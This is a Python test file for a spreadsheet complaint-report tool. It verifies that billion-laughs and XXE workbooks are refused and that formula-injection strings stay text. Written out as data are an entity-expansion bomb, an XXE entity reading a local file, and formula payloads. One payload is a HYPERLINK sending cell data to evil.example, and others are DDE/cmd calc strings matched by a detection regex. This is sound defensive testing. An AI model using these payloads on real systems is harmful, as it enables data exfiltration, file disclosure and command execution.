"""What held in the red-team, kept held: billion laughs and XXE are refused (exit 2) and never
read a local file; formula-looking text typed as text stays text after refresh and in both reports."""

from __future__ import annotations

import re
import subprocess
import sys
import zipfile
from collections.abc import Callable
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest
from python_calamine import CalamineWorkbook

from tests.conftest import type_rows
from tests.test_limits import assert_refused, measured, register_part
from tests.test_special_files import WatchedFifo
from xlcomplaints.core.metrics import Period
from xlcomplaints.report.run import ReportKind, ReportRequest, report_flow
from xlcomplaints.spec import branch as B

_LOL = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
LAUGHS = f'<!DOCTYPE lolz [<!ENTITY lol0 "lol">{_LOL}]>'.encode()


def xxe(target: Path) -> bytes:
    return f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "{target.as_uri()}">]>'.encode()


def with_dtd(path: Path, part: str, dtd: bytes, ref: bytes, out: Path) -> Path:
    """A copy of the workbook whose ``part`` declares ``dtd`` and uses the entity ``ref`` in a text."""
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == part:
                end = data.index(b"?>") + 2
                data = data[:end] + dtd + data[end:]
                text = b'<c r="E2" t="inlineStr"><is><t>' + ref + b"</t></is></c>"
                data = (data.replace(b"</sheetData>", b'<row r="2">' + text + b"</row></sheetData>")
                        .replace(b"</sst>", b"<si><t>" + ref + b"</t></si></sst>")
                        .replace(b"<definedNames>", b'<definedNames><definedName name="zz">' + ref + b"</definedName>"))
            dst.writestr(info, data)
    return out


def parts_with_text(path: Path) -> list[str]:
    """The Register, the shared strings and the workbook part: each read by a different reader."""
    names = zipfile.ZipFile(path).namelist()
    return [register_part(path), next(n for n in names if n.endswith("sharedStrings.xml")), "xl/workbook.xml"]


@pytest.mark.parametrize("where", [0, 1, 2], ids=["register", "shared-strings", "workbook"])
def test_billion_laughs_is_refused_in_bounded_memory(branch: Callable[..., Path], tmp_path: Path, where: int) -> None:
    path = branch()
    bomb = with_dtd(path, parts_with_text(path)[where], LAUGHS, b"&lol9;", tmp_path / "lol.xlsx")
    for command in (("validate", bomb), ("refresh", bomb, "--now", "2026-11-02 09:00")):
        assert_refused(measured(*command))


@pytest.mark.parametrize("where", [0, 1, 2], ids=["register", "shared-strings", "workbook"])
def test_xxe_is_refused_and_never_opens_the_local_file(branch: Callable[..., Path], tmp_path: Path,
                                                      where: int) -> None:
    """The entity names a FIFO with a writer waiting: opening it at all would be seen."""
    secret = WatchedFifo(tmp_path / "secret")
    try:
        path = branch()
        hostile = with_dtd(path, parts_with_text(path)[where], xxe(secret.path), b"&xxe;", tmp_path / "xxe.xlsx")
        for command in (("validate", hostile), ("refresh", hostile, "--now", "2026-11-02 09:00"),
                        ("report", hostile, "--month", "2026-10", "-o", tmp_path / "r.xlsx")):
            assert_refused(measured(*command))
        assert not secret.opened and not (tmp_path / "r.xlsx").exists()
    finally:
        secret.release()


PAYLOADS = ('=HYPERLINK("http://evil.example/?d="&A1,"点击查看")', "+cmd|' /C calc'!A0", "@SUM(1)",
            '=DDE("cmd";"/C calc";"A0")', "-2+3+cmd|' /C calc'!A0")
_DANGER = re.compile(r"HYPERLINK|DDE|cmd|SUM\(1\)")


def formulas(path: Path) -> list[str]:
    """Every formula in every worksheet of a workbook."""
    with zipfile.ZipFile(path) as z:
        return [f for n in z.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")
                for f in re.findall(r"<f(?:\s[^>]*)?>([^<]*)</f>", z.read(n).decode())]


def texts(path: Path) -> set[object]:
    book = CalamineWorkbook.from_path(str(path))
    return {v for name in book.sheet_names for row in book.get_sheet_by_name(name).to_python() for v in row}


def test_formula_injection_stays_text_after_refresh_and_in_both_reports(branch: Callable[..., Path],
                                                                       tmp_path: Path) -> None:
    path = branch()
    type_rows(path, "register", [
        {"received_at": f"2026-10-0{i + 1} 10:00", "channel": "电话", "customer": "x", "phone": "13812345678",
         "category": "服务态度", "severity": "重大", "validity": "有效", "content": "x"}
        for i in range(len(PAYLOADS))])
    wb = openpyxl.load_workbook(path)
    for r, payload in enumerate(PAYLOADS, start=2):
        for key in ("customer", "content"):
            cell = wb[B.REGISTER.title("zh")].cell(r, B.REGISTER.index(key) + 1)
            cell.value, cell.data_type = payload, "s"  # typed as text (in Excel: after an apostrophe)
    wb.save(path)
    assert not formulas(path)  # the clerk's file holds them as text
    assert measured("refresh", path, "--now", "2026-11-02 09:00")["code"] in (0, 1)
    assert not [f for f in formulas(path) if _DANGER.search(f)]
    assert set(PAYLOADS) <= texts(path)  # still there, as the text typed
    one = report_flow(ReportRequest([path], Period.month(2026, 10), tmp_path / "one.xlsx", ReportKind.BRANCH,
                                    now=datetime(2026, 11, 2)))
    group = report_flow(ReportRequest([path], Period.month(2026, 10), tmp_path / "group.xlsx",
                                      now=datetime(2026, 11, 2)))
    for report in (one.output, group.output):
        assert not [f for f in formulas(report) if _DANGER.search(f)]
        assert set(PAYLOADS) <= texts(report)


def test_the_marker_of_a_readable_secret_is_nowhere_in_what_is_printed(branch: Callable[..., Path],
                                                                      tmp_path: Path) -> None:
    """A regular file as the XXE target: its content appears in no output, message or file."""
    secret = tmp_path / "secret.txt"
    secret.write_text("TOPSECRET-7f3a")
    path = branch()
    hostile = with_dtd(path, register_part(path), xxe(secret), b"&xxe;", tmp_path / "xxe.xlsx")
    done = subprocess.run([sys.executable, "-m", "xlcomplaints.cli", "validate", str(hostile), "--json"],
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 2 and "TOPSECRET" not in done.stdout + done.stderr
